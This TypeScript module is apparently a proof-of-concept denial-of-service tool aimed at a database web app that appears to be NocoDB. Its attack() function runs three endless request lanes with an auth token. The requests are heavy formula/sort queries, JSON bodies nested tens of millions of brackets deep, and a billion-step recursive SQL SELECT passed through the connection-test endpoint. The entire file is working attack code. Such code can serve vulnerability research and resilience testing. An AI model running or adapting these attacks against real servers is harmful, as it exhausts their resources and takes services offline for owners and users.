/** What stops a server whose parts wait for each other. */
export const attacks = {
  formula: 'the heaviest formula',
  json: 'the deepest and the longest JSON',
  select: 'the slowest SELECT',
} as const;

export type AttackName = keyof typeof attacks;
export const attackNames = Object.keys(attacks) as readonly AttackName[];

/** Whose server and table it is, by whose session, and a database that SELECTs may be sent to. */
export interface AttackTarget {
  readonly url: string;
  readonly token: string;
  readonly path: string;
  readonly file: string;
}

/** Sends one kind of request again and again, three at a time, for as long as the process lives; tells when it begins and when one is over. */
export async function attack(name: AttackName, target: AttackTarget, tell: () => void): Promise<never> {
  const once = attackBy(target)[name];
  tell();
  const lane = async (first: number): Promise<never> => {
    for (let index = first; ; index += 3) {
      await once(index);
      tell();
    }
  };
  return Promise.race([0, 1, 2].map(lane));
}

function attackBy({ url, token, path, file }: AttackTarget): Readonly<Record<AttackName, (index: number) => Promise<void>>> {
  const send = async (method: string, to: string, body?: Uint8Array<ArrayBuffer>): Promise<void> => {
    const headers = { 'xc-auth': token, 'content-type': 'application/json' };
    const answer = await fetch(url + to, { method, headers, ...(body !== undefined && { body }) }).catch(() => null);
    const text = (await answer?.text().catch(() => '')) ?? '';
    if (answer?.status === 400 && to !== path) throw new Error(`What was to be heavy is refused: ${text}`);
  };
  const bytes = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);
  const deep = '['.repeat(30 * 2 ** 20);
  const wide = (values: number): string => `{"Name":${'['.repeat(60)}${'1,'.repeat(values)}1${']'.repeat(60)}}`;
  const longest = `[${'1,'.repeat(99_998)}1]`;
  const bodies = [deep, wide(15_000_000), wide(1_900_000), `{"Name":[${`${longest},`.repeat(18)}${longest}]}`].map(bytes);
  const slowest = 'WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 1000000000) SELECT count(*) AS c FROM n';
  const connection = bytes(JSON.stringify({ client: 'sqlite3', connection: { filename: file }, sql: slowest }));
  return {
    formula: (index) => send('GET', `${path}?limit=1000&where=(F5,like,x${index})&sort=-F5`),
    json: (index) => send('POST', path, bodies[index % bodies.length]),
    select: () => send('POST', '/api/v1/db/meta/connection/select', connection),
  };
}
